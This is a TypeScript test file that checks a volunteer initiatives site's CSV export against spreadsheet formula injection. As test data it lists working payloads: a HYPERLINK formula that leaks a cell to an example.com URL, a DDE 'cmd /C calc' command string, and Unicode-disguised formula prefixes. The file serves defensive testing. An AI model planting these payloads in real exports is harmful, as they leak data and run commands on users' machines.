/**
 * CSV injection (OWASP): whatever a volunteer writes in front matter, no cell of a
 * CSV export may start a spreadsheet formula. Read back with a real CSV parser
 * (csv-parse), so quoting cannot hide a live `=` from the check. Plain phone
 * numbers in a phone column are the one thing written as is.
 */
import { describe, expect, test } from "vitest";
import { parse } from "csv-parse/sync";
import type { Initiative, Place } from "../../../src/lib/content/model.ts";
import { csvDocument, csvField, defuseFormula } from "../../../src/lib/export/csv.ts";
import { csvColumns, initiativesCsv } from "../../../src/lib/export/initiatives-csv.ts";
import { context, places, site } from "./sample.ts";

const hyperlink = '=HYPERLINK("https://example.com/?leak="&A2,"6041 AB")';

/** Starts a formula, or would once a spreadsheet strips leading whitespace. */
const payloads = [
  hyperlink,
  "+1+1",
  "-1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "   @SUM(A1)",
  "\u00A0=1+1",
  "\u3000=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF0D1",
  "\uFF20SUM(A1)",
  " \uFF1DHYPERLINK(1)",
  "-2+3+cmd|' /C calc'!A0",
];

/** The test's own idea of a safe cell, written independently of src/. */
const dangerous = /^(?:[\t\r]|[\s\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
const permittedPhone = /^\+?[0-9][0-9 ()-]*[0-9]$/;

function parseAll(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: false }) as string[][];
}

/** Every cell that a spreadsheet would run, as "row:column: value". */
function liveCells(table: string[][], phoneColumns: readonly string[] = []): string[] {
  const [header = [], ...rows] = table;
  const found: string[] = [];
  for (const [r, row] of [header, ...rows].entries()) {
    for (const [c, cell] of row.entries()) {
      const column = header[c] ?? String(c);
      const phoneOk = r > 0 && phoneColumns.includes(column) && permittedPhone.test(cell);
      if (dangerous.test(cell) && !phoneOk) found.push(`${r}:${column}: ${JSON.stringify(cell)}`);
    }
  }
  return found;
}

describe("CSV writer defuses every cell", () => {
  test("each payload in each column comes back guarded with an apostrophe, text intact", () => {
    const header = ["a", "b", "phone"];
    const records = payloads.map((p) => [p, `${p}`, p]);
    const table = parseAll(csvDocument(header, records, { phoneColumns: ["phone"] }));
    expect(liveCells(table, ["phone"])).toEqual([]);
    for (const [index, payload] of payloads.entries()) {
      expect(table[index + 1]).toEqual([`'${payload}`, `'${payload}`, `'${payload}`]);
    }
  });

  test("a header that looks like a formula is defused too", () => {
    const table = parseAll(csvDocument(["=1+1", "ok"], [["x", "y"]]));
    expect(table[0]).toEqual(["'=1+1", "ok"]);
  });

  test("defusing happens before quoting", () => {
    expect(csvField(hyperlink)).toBe(
      `"'=HYPERLINK(""https://example.com/?leak=""&A2,""6041 AB"")"`,
    );
    expect(csvField("=1,2")).toBe(`"'=1,2"`);
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
  });

  test("a negative-looking number in a non-phone column is guarded", () => {
    expect(defuseFormula("-1")).toBe("'-1");
    const table = parseAll(
      csvDocument(["cost", "phone"], [["-1", "06 1234 5678"]], { phoneColumns: ["phone"] }),
    );
    expect(table[1]).toEqual(["'-1", "06 1234 5678"]);
  });

  test("ordinary text is left alone", () => {
    for (const text of [
      "Koffie",
      "06 1234 5678",
      "a-b",
      "mail@example.org",
      "1 + 1",
      "",
      "'quoted",
    ]) {
      expect(defuseFormula(text)).toBe(text);
    }
  });

  test("a plain phone number in a phone column is written as written", () => {
    for (const phone of ["+31 6 1234 5678", "+31 (0)20 123-4567", "+3161234567"]) {
      expect(defuseFormula(phone, "phone")).toBe(phone);
      const table = parseAll(csvDocument(["phone"], [[phone]], { phoneColumns: ["phone"] }));
      expect(table[1]).toEqual([phone]);
    }
  });

  test("the same number outside a phone column is guarded", () => {
    const table = parseAll(csvDocument(["note"], [["+31 6 1234 5678"]]));
    expect(table[1]).toEqual(["'+31 6 1234 5678"]);
  });

  test("anything but a plain phone number in a phone column is guarded", () => {
    const sneaky = [
      `+31 6 1234=HYPERLINK("https://example.com/?leak="&A2,"x")`,
      "+31 6 1234&A2",
      "+31 6 SUM(A1)",
      "+(1)",
      "+1:1",
      "+31 6 1234 5678 ",
      " +31 6 1234 5678",
      "\t+31 6 1234 5678",
      "\uFF0B31 6 1234 5678",
      "-1",
      "-31 6",
      "@31",
      "=31",
      "+",
      "+31\n=1",
    ];
    const table = parseAll(
      csvDocument(
        ["phone"],
        sneaky.map((s) => [s]),
        { phoneColumns: ["phone"] },
      ),
    );
    expect(table.slice(1).map((r) => r[0])).toEqual(sneaky.map((s) => `'${s}`));
    expect(liveCells(table, ["phone"])).toEqual([]);
  });

  test("a phone column that is not in the header is refused", () => {
    expect(() => csvDocument(["a"], [["1"]], { phoneColumns: ["phone"] })).toThrow(/phone/);
  });
});

describe("initiatives.csv defuses every column", () => {
  /** A place and initiatives with the payload in every text field the export copies. */
  function poisoned(payload: string) {
    const place: Place = {
      ...places[0]!,
      slug: "gif",
      address: payload,
      postcode: payload,
      lastVerified: payload,
      text: {
        nl: {
          locale: "nl",
          title: payload,
          summary: payload,
          body: "",
          html: "",
          file: "x/nl.mdx",
        },
      },
    };
    const base: Initiative = {
      kind: "initiative",
      slug: payload,
      type: payload as Initiative["type"],
      needs: [payload as Initiative["needs"][number]],
      place: "gif",
      schedule: [],
      closed: [],
      cost: "free",
      languages: [payload],
      womenOnly: false,
      walkIn: false,
      bringSomeone: false,
      children: false,
      wheelchair: false,
      hosts: [{ role: payload as Initiative["hosts"][number]["role"], organisation: payload }],
      contact: { phone: payload, email: payload, whatsapp: true },
      lastVerified: payload,
      audio: {},
      text: {
        nl: {
          locale: "nl",
          title: payload,
          summary: payload,
          body: "",
          html: "",
          file: "x/nl.mdx",
        },
      },
    };
    const elsewhere: Initiative = {
      ...base,
      slug: `${payload}2`,
      place: payload,
      address: payload,
    };
    const atAddress: Initiative = {
      ...base,
      slug: `${payload}3`,
      place: undefined,
      address: payload,
    };
    const phoneOnly: Initiative = { ...base, slug: "bellen", place: "phone" };
    return { place, initiatives: [base, elsewhere, atAddress, phoneOnly] };
  }

  test.each(payloads)("payload %j: no live cell in any column", (payload) => {
    const { place, initiatives } = poisoned(payload);
    const { siteUrl: _, ...rest } = context({ places: [place], initiatives });
    const table = parseAll(initiativesCsv(rest));
    expect(table[0]).toEqual([...csvColumns]);
    expect(table).toHaveLength(1 + initiatives.length);
    expect(liveCells(table, ["phone"])).toEqual([]);
  });

  test("the HYPERLINK payload is kept, guarded, in every column that carries it", () => {
    const { place, initiatives } = poisoned(hyperlink);
    const { siteUrl: _, ...rest } = context({ places: [place], initiatives });
    const [header = [], first = []] = parseAll(initiativesCsv(rest));
    const row = Object.fromEntries(header.map((column, i) => [column, first[i]]));
    for (const column of [
      "slug",
      "type",
      "title",
      "summary",
      "needs",
      "place",
      "address",
      "postcode",
      "languages",
      "phone",
      "email",
      "lastVerified",
    ]) {
      expect(row[column], column).toBe(`'${hyperlink}`);
    }
  });

  test("a place's postcode formula is not written as a live formula", () => {
    const place: Place = { ...places[0]!, postcode: hyperlink };
    const initiative = poisoned("x").initiatives[0]!;
    const { siteUrl: _, ...rest } = context({
      places: [place],
      initiatives: [{ ...initiative, slug: "koffie", place: place.slug }],
    });
    const [header = [], first = []] = parseAll(initiativesCsv(rest));
    expect(first[header.indexOf("postcode")]).toBe(`'${hyperlink}`);
  });

  test("a plain phone number stays readable; one with a formula in it does not", () => {
    const base = poisoned("x").initiatives[0]!;
    const phones = ["+31 6 1234 5678", '+31 6 1234=HYPERLINK("https://example.com/")', "-1"];
    const initiatives = phones.map((phone, i) => ({
      ...base,
      slug: `i${i}`,
      place: "online" as const,
      contact: { phone },
    }));
    const { siteUrl: _, ...rest } = context({ site, places: [], initiatives });
    const [header = [], ...rows] = parseAll(initiativesCsv(rest));
    const phoneAt = header.indexOf("phone");
    expect(rows.map((r) => r[phoneAt])).toEqual([
      "+31 6 1234 5678",
      '\'+31 6 1234=HYPERLINK("https://example.com/")',
      "'-1",
    ]);
  });
});
